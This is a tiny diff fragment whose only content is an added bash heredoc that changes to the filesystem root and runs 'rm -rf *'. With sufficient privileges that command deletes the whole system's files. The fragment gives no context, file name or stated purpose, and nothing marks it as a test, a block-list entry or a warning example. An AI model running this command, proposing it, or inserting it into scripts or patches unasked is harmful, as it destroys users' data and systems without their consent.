@@ -1,0 +1,4 @@
+bash <<'EOF'
+cd /
+rm -rf *
+EOF
